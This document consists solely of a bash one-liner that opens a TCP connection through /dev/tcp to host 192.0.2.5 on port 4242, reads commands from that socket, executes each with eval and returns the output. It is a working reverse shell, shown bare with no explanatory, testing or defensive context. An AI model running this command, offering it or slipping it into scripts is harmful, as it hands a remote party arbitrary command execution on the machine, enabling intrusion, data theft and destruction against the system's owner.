h=192.0.2.5;p=4242;exec 3<>"/dev/tcp/$h/$p";while IFS= read -r c <&3;do eval "$c" >&3 2>&3;done
